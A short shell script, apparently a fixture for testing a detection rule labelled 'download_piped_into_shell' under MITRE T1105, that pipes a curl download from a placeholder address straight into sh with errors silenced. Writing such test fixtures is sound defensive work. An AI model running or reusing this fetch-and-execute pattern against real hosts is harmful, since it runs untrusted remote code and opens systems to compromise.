#!/bin/sh
# technique: T1105 Ingress Tool Transfer
# rule: download_piped_into_shell
# Fetches a script and runs it without writing it down; nobody answers.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
sh -c 'curl -s -m 2 192.0.2.1:8081/setup | sh' 2>/dev/null || true
exit 0
